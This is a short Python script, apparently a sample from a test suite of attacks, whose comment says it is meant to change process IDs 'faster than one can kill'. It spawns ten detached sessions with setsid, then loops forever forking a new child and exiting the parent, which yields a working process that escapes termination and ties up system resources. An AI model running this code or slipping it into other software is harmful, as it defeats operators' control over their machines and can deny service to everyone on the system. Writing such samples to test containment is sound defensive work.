from attack import *

# Each parent ends at once, so that nothing waits for anybody and the numbers change faster than one can kill.
mark()
for _ in range(10):
    if os.fork() == 0:
        os.setsid()
        break
else:
    time.sleep(30)
while True:
    try:
        if os.fork() > 0:
            os._exit(0)
    except OSError:
        pass
